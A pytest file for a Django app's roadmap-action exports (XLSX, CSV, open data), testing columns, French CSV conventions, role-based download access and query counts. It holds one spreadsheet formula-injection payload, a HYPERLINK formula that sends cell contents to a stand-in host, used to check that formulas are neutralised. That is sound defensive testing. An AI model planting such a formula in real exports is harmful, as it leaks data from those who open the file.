"""The roadmap's actions as a spreadsheet (XLSX and CSV), one row per action with its
follow-up; the same columns in the open data; formulas neutralised; who may download."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from acteurs.models import Role
from feuilles_de_route.export_actions import NOMS, TITRES
from feuilles_de_route.models import Action, Financement, Indicateur, IndicateurAction, PointSuivi
from tests import factories
from tests.factories import feuilles_de_route as f
from tests.factories.public import feuille_publiee, laureat

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


def _export(client, atelier, extension):
    return client.get(
        reverse(
            "feuilles_de_route:export_actions", kwargs={"pk": atelier.pk, "extension": extension}
        )
    )


@pytest.fixture
def feuille(atelier):
    feuille = f.feuille_with_actions(atelier, axes=2, actions_per_axe=2)
    action = Action.objects.filter(axe__feuille=feuille).order_by("axe__ordre", "ordre").first()
    Action.objects.filter(pk=action.pk).update(
        titre=HOSTILE, statut_suivi="en_cours", avancement=40
    )
    Financement.objects.create(action=action, financeur="region", montant=Decimal("20000"), statut="acquis")  # fmt: skip
    Financement.objects.create(action=action, financeur="autre", libelle="-1+1", montant=Decimal("99"))  # fmt: skip
    PointSuivi.objects.create(
        action=action, date=dt.date(2026, 5, 4), etat="en_cours", commentaire="x", pourcentage=40
    )
    indicateur = Indicateur.objects.create(nom="Logements", definition="x", unite="logements")
    IndicateurAction.objects.create(
        action=action,
        indicateur=indicateur,
        derniere_valeur=Decimal(12),
        derniere_date="2026-06-01",
    )
    return feuille


def test_xlsx_opens_with_one_row_per_action_and_the_formula_neutralised(
    client, atelier, pilote, feuille
):
    client.force_login(pilote)
    r = _export(client, atelier, "xlsx")
    assert r.status_code == 200 and r["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.values)
    assert list(rows[0]) == TITRES and len(rows) == 5
    ligne = dict(zip(TITRES, rows[1], strict=True))
    assert ligne["Action"] == "'" + HOSTILE and ligne["Axe"] == "Axe 1 : revitaliser"
    assert ligne["Porteur"].startswith("Commune de Quintin") and ligne["Partenaires"].startswith(
        "Agence de l'eau"
    )
    assert ligne["État d'avancement"] == "En cours" and ligne["Avancement (%)"] == 40
    assert ligne["Coût estimé (€)"] == 125000.5
    assert ligne["Financement Région (€)"] == 20000 and ligne["Financement Autre (€)"] == 50099
    assert ligne["Financement acquis (€)"] == 20000 and ligne["Financement envisagé (€)"] == 50099
    assert ligne["Financement total (€)"] == 70099
    assert "Région : 20000.00 (acquis)" in ligne["Détail des financements"]
    assert ligne["Acquis et demandés dépassent le coût"] == "non"
    assert ligne["Échéance"] == "2027-06-30" and ligne["Dernier point de suivi"] == "2026-05-04"
    assert ligne["Indicateurs (dernière valeur)"] == "Logements : 12 logements (2026-06-01)"
    # Every text cell is data: none is read back as a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csv_follows_french_excel_conventions(client, atelier, elu, feuille):
    client.force_login(elu)
    r = _export(client, atelier, "csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert r.content.startswith("\ufeff".encode()) and b"\r\n" in r.content
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == TITRES and len(rows) == 5
    ligne = dict(zip(TITRES, rows[1], strict=True))
    assert ligne["Action"] == "'" + HOSTILE
    assert ligne["Coût estimé (€)"] == "125000,50" and ligne["Financement Région (€)"] == "20000,00"
    assert ligne["Détail des financements"].endswith("-1+1 : 99.00 (envisagé)")


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (None, 302),
        (Role.HABITANT, 403),
        (Role.SOCIO_PROFESSIONNEL, 403),
        (Role.OBSERVATEUR, 200),
        (Role.TECHNICIEN, 200),
        (Role.EQUIPE, 200),
        (Role.PILOTE, 200),
    ],
)
def test_who_may_download(client, atelier, feuille, role, status):
    if role is not None:
        client.force_login(factories.participant(atelier, role, email=f"{role}@exemple.fr"))
    assert _export(client, atelier, "xlsx").status_code == status
    assert _export(client, atelier, "csv").status_code == status


def test_other_atelier_and_unknown_format(client, atelier, autre_pilote, pilote, feuille):
    client.force_login(autre_pilote)
    assert _export(client, atelier, "xlsx").status_code in (403, 404)
    client.force_login(pilote)
    assert _export(client, atelier, "ods").status_code == 404


def test_open_data_has_the_same_columns(client):
    atelier = laureat(nom="Guingamp")
    feuille = feuille_publiee(atelier, financements=[("Région", "12000", "acquis")])
    action = Action.objects.filter(axe__feuille=feuille).order_by("axe__ordre", "ordre").first()
    Action.objects.filter(pk=action.pk).update(titre=HOSTILE)
    document = json.loads(client.get("/donnees/actions.json").content)
    assert document["champs"][6:] == NOMS
    row = next(r for r in document["donnees"] if r["action_id"] == action.pk)
    assert row["financement_region"] == 12000.0 and row["financement_acquis"] == 12000.0
    text = client.get("/donnees/actions.csv").content.decode("utf-8-sig")
    header, *lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[6:] == NOMS
    assert any(line[header.index("action")] == "'" + HOSTILE for line in lines)
    schema = client.get("/donnees/actions/").content.decode()
    assert "financement_acquis" in schema and "derniere_mise_a_jour" in schema


def test_export_query_count_does_not_grow_with_the_actions(
    client, atelier, pilote, django_assert_max_num_queries
):
    feuille = f.feuille_with_actions(atelier, axes=1, actions_per_axe=2)
    client.force_login(pilote)
    with django_assert_max_num_queries(40) as petit:
        assert _export(client, atelier, "xlsx").status_code == 200
    for i in range(10):
        action = factories.ActionFactory(axe=feuille.axes.first(), titre=f"En plus {i}", ordre=9)
        Financement.objects.create(action=action, financeur="etat", montant=i)
        action.partenaires.add(*Action.objects.first().partenaires.all())
    with django_assert_max_num_queries(len(petit.captured_queries)):
        assert _export(client, atelier, "xlsx").status_code == 200
